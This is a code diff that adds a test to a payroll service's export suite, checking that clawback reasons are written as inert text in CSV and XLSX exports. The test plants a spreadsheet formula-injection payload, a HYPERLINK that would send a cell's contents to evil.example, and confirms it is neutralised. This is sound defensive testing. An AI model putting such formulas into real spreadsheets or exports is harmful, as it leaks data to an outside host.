@@ -97,3 +97,19 @@ async def test_a_period_export_in_xlsx_holds_the_same_rows_with_amounts_as_text(
     assert [["" if cell is None else str(cell) for cell in row] for row in as_xlsx] == as_csv
     amount = COLUMNS.index("amount")
     assert all(isinstance(row[amount], str) for row in as_xlsx[1:])  # text, never a binary float
+
+
+async def test_an_export_writes_a_reason_that_would_run_as_a_formula_as_text(services3: Services3) -> None:
+    [member] = await pay_group(services3)
+    await run(services3, [member], "2023-01", "2023-02")
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
+    body = {**CLAWBACK, "tenure_id": member["tenure_id"], "reason": formula, "decision_ref": "@SUM(1+1)"}
+    await created(services3.payroll.post("/clawbacks", json=body))
+    rows = list(csv.reader(io.StringIO((await export(services3, member, "2023-02", "csv")).decode("utf-8-sig"))))
+    [clawed] = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:] if row[COLUMNS.index("kind")] == "clawback"]
+    assert (clawed["note"], clawed["amount"]) == (f"'{formula}", "-1000.00")  # a recovery stays a figure
+    assert clawed["cause"] == "clawback_decision:@SUM(1+1)"  # begins with its type: nothing to run
+    sheet = load_workbook(io.BytesIO(await export(services3, member, "2023-02", "xlsx"))).active
+    note = sheet.cell(row=3, column=COLUMNS.index("note") + 1)
+    assert (note.value, note.data_type) == (formula, "s")
+    assert sheet.cell(row=3, column=COLUMNS.index("amount") + 1).value == "-1000.00"
